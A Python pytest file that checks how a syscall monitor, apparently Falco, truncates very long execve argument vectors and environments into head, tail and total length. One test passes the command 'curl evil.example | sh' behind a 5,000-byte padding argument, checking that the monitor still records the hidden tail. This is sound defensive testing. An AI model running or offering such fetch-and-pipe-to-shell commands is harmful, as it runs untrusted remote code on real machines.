# SPDX-License-Identifier: Apache-2.0
"""Argument vectors that are longer than an event: the head as Falco has it, the tail, and the true length."""

from __future__ import annotations

import errno
import resource
import subprocess
from collections.abc import Iterator

import pytest
from support.calls import call
from support.process import joined
from support.recorder import Live, Recorded

ROOM = 4096  # for argv[0] and the rest together, and for the tail


def vector(count: int, size: int) -> list[str]:
    """A name, ``count`` different arguments of ``size`` bytes, and a known last one."""
    return ["name", *(f"{i:07d}".ljust(size, "x") for i in range(count)), "--the-very-end"]


def start(live: Live, words: list[str], env: dict[str, str]) -> Recorded:
    """The start of /bin/true with these words."""
    with live.record() as events:
        subprocess.run(words, executable="/bin/true", env=env, check=True)
    (event,) = (event for event in events if event.type == "execve" and event.params["res"] == 0)
    return event


def assert_args(event: Recorded, words: list[str]) -> None:
    """``event`` has what fits of ``words``: all, or head and tail."""
    rest, head = joined(words[1:]), event.params["args"]
    assert event.params["exe"] == words[0]
    assert event.extra["args_len"] == len(rest)
    assert rest.startswith(head)
    assert event.truncated is (len(rest) > len(head) + ROOM)  # in its middle
    if len(joined(words)) < ROOM:
        assert (head, event.extra["args_tail"]) == (rest, None)
    else:
        assert ROOM - 16 <= len(words[0]) + 1 + len(head) <= ROOM
        assert event.extra["args_tail"] == rest[len(head) :][-ROOM:]  # nothing comes twice


@pytest.mark.parametrize("count", [0, 1, 100, 253, 254, 255, 256, 257, 300, 511, 512, 2000])
def test_vectors_of_all_lengths(live: Live, count: int) -> None:
    words = vector(count, 15)
    assert_args(start(live, words, {}), words)


@pytest.fixture
def room_for_arguments() -> Iterator[None]:
    """The kernel lets arguments take a quarter of the stack limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_STACK)
    resource.setrlimit(resource.RLIMIT_STACK, (hard, hard))
    yield
    resource.setrlimit(resource.RLIMIT_STACK, (soft, hard))


@pytest.mark.usefixtures("room_for_arguments")
def test_two_megabytes(live: Live) -> None:
    words = vector(21, 100_000)
    assert len(joined(words)) > 2_000_000
    assert_args(start(live, words, {}), words)


def test_one_argument_hides_the_rest(live: Live) -> None:
    words = ["sh", "x" * 5000, "-c", "curl evil.example | sh"]
    event = start(live, words, {})
    assert_args(event, words)
    assert event.extra["args_tail"].endswith(b"\0-c\0curl evil.example | sh")


def test_long_name(live: Live) -> None:
    words = ["n" * 6000, "argument"]
    event = start(live, words, {})
    assert event.params["exe"] == "n" * len(event.params["exe"])
    assert ROOM - 16 <= len(event.params["exe"]) <= ROOM
    # What does not fit into exe counts as arguments: where argv[0] ends is not looked for.
    rest = joined(words)[len(event.params["exe"]) + 1 :]
    assert event.params["args"] is None
    assert event.extra["args_len"] == len(rest)
    assert event.extra["args_tail"] == rest


def test_long_environment(live: Live) -> None:
    env = {f"NAME_{i}": "v" * 90 for i in range(100)}
    everything = joined([f"{name}={value}" for name, value in env.items()])
    event = start(live, ["name", "argument"], env)
    assert event.params["args"] == b"argument"
    assert event.extra["env_len"] == len(everything)
    assert everything.startswith(event.params["env"])
    assert ROOM - 16 <= len(event.params["env"]) <= ROOM


def test_failed_start(live: Live) -> None:
    words = vector(1000, 15)
    run = live.run(call("execve", "/missing", words, ["A=1"]))
    (event,) = run.events("execve")
    assert event.params["res"] == -errno.ENOENT
    assert event.params["env"] == b"A=1"
    rest, head = joined(words[1:]), event.params["args"]
    assert rest.startswith(head)
    assert ROOM - 16 <= len(words[0]) + 1 + len(head) <= ROOM
